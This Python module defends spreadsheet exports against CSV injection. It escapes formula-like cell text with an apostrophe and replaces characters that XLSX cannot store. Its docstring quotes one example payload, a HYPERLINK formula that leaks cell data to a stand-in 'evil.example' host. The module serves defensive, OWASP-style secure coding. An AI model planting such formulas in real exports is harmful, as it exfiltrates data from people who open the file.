"""What is written in a spreadsheet cell is a value, never a formula (OWASP "CSV injection").

A name such as ``=HYPERLINK("http://evil.example/?leak="&A2;"Jean")`` opened in Excel or
LibreOffice would run. In a CSV file a text that a spreadsheet would read as a formula (it starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, or their full-width forms) is
prefixed with an apostrophe, as OWASP advises; in an XLSX file the cell is stored as a text
(never a formula) and keeps its exact characters. Characters an XLSX file cannot hold (C0
controls) are shown as U+FFFD rather than crashing the export.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_STARTS = tuple("=+-@\t\r\n") + ("＝", "＋", "－", "＠")
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet would read ``text`` as a formula."""
    return text.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """A CSV cell a spreadsheet reads as the value it is: formula-like text gets a leading '."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def csv_row(row: Any) -> list[Any]:
    """Every cell of ``row`` through :func:`csv_cell`."""
    return [csv_cell(value) for value in row]


def xlsx_text(text: str) -> str:
    """``text`` with the characters XLSX cannot store replaced by U+FFFD."""
    return _XML_ILLEGAL.sub("\ufffd", text)
